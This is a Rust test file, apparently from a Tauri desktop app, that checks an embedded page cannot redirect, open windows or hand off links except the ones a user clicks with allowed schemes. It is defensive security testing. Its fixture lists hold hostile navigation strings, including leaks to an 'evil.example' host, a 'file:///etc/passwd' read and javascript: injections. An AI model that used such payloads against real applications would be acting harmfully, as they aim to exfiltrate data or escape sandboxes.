//! Where a page can lead: to itself, to the user's browser after a click, or nowhere.

use serde_json::Value;

use super::{insert, run_with_add};
use crate::{evidence::happened, neighbor::Neighbor, scene::Scene, wait::until};

/// What a page can do without its user; `AWAY` is another server of this computer.
const BY_ITSELF: [&str; 19] = [
    "location = 'AWAY/location'",
    "location.replace('AWAY/replace')",
    "location = 'https://evil.example/?leak'",
    "location = 'mailto:mallory@evil.example?body=leak'",
    "location = 'data:text/html,<h1>data</h1>'",
    "location = 'file:///etc/passwd'",
    "location = 'ssh://evil.example/'",
    "location = 'javascript:window.pwned = 1'",
    "location = 'about:blank'",
    "location = 'tauri://other/'",
    "location = 'tauri://localhost/'", // the splash, which would wait for ever
    "history.back()",
    "location = URL.createObjectURL(new Blob(['<h1>blob</h1>'], { type: 'text/html' }))",
    "add('meta', { httpEquiv: 'refresh', content: '0; url=AWAY/meta' })",
    "add('iframe', { src: 'AWAY/iframe' })",
    "add('form', { action: 'AWAY/form' }).submit()",
    "add('form', { action: 'AWAY/form', method: 'post' }).submit()",
    "add('a', { href: 'AWAY/click' }).click()",
    "window.open('AWAY/open')",
];

/// Waits until the desktop was asked to open `last`, and returns all that it was asked.
async fn opened_up_to(scene: &Scene, last: &str) -> Vec<String> {
    until(last, async || {
        let opened = scene.all_opened();
        opened.iter().any(|it| it == last).then_some(opened)
    })
    .await
}

#[tokio::test]
async fn s8_a_page_by_itself_leads_nowhere() {
    let scene = Scene::open().await;
    let neighbor = Neighbor::start();
    let here = scene.ask("location.href").await;
    scene.ask("window.isStillHere = true").await;

    for script in BY_ITSELF {
        let script = script.replace("AWAY", &neighbor.site);
        run_with_add(&scene, &script).await;
    }
    let last = format!("{}/clicked", neighbor.site);
    insert(&scene, &format!("<a id=away href='{last}'>Away</a>")).await;
    scene.click("#away").await;

    assert_eq!(opened_up_to(&scene, &last).await, [last], "only what was clicked");
    assert_eq!(scene.ask("location.href").await, here);
    assert_eq!(scene.ask("window.isStillHere").await, Value::Bool(true));
    assert_eq!(scene.ask("typeof window.pwned").await, "undefined");
    assert_eq!(neighbor.requests(), [""; 0], "the window asked nobody else");
    happened(format!("{} ways tried, the page stayed", BY_ITSELF.len()));

    scene.end().await;
}

#[tokio::test]
async fn s8_a_clicked_link_opens_in_the_users_program_for_it_or_nowhere() {
    let scene = Scene::open().await;
    let here = scene.ask("location.href").await;
    let nowhere = [
        "file:///etc/passwd",
        "ssh://evil.example/",
        "javascript:window.pwned = 1",
        "data:text/html,hello",
        "vscode://evil",
        "tauri://localhost/",
    ];
    let outside = [
        "http://127.0.0.1:4000/away",
        "mailto:pony@stable.example",
        "https://www.djangoproject.com/",
    ];

    for address in nowhere.iter().chain(&outside) {
        insert(&scene, &format!("<a class=link href='{address}'>{address}</a>")).await;
        scene.click(".link").await;
        scene.ask("document.querySelector('.link').remove()").await;
    }

    assert_eq!(opened_up_to(&scene, outside[2]).await, outside);
    assert_eq!(scene.ask("location.href").await, here);
    assert_eq!(scene.ask("typeof window.pwned").await, "undefined");
    happened(format!("{} opened outside, {} dropped", outside.len(), nowhere.len()));

    scene.end().await;
}

#[tokio::test]
async fn s9_there_is_one_window_whatever_a_page_opens() {
    let scene = Scene::open().await;
    let here = scene.ask("location.href").await;
    let outside = "https://www.djangoproject.com/";
    let opens = ["/routines/", "about:blank", "data:text/html,hello", "", outside];

    for address in ["/routines/", "javascript:window.pwned = 1", "about:blank"] {
        insert(&scene, &format!("<a class=link target=_blank href='{address}'>x</a>"))
            .await;
        scene.click(".link").await;
        scene.ask("document.querySelector('.link').remove()").await;
    }
    insert(&scene, "<button id=opens>Open</button>").await;
    let opens = serde_json::to_string(&opens).unwrap();
    scene
        .run(&format!(
            "document.querySelector('#opens').onclick = () => {{
                window.opened = {opens}.map((it) => window.open(it)); }}"
        ))
        .await;
    scene.click("#opens").await;

    assert_eq!(opened_up_to(&scene, outside).await, [outside]);
    assert_eq!(scene.ask("window.opened.every((it) => it === null)").await, true);
    assert_eq!(scene.page.windows().await.unwrap().as_array().unwrap().len(), 1);
    assert_eq!(scene.ask("location.href").await, here);
    assert_eq!(scene.ask("typeof window.pwned").await, "undefined");
    happened("8 tries: one opened outside, seven dropped, one window");

    scene.end().await;
}
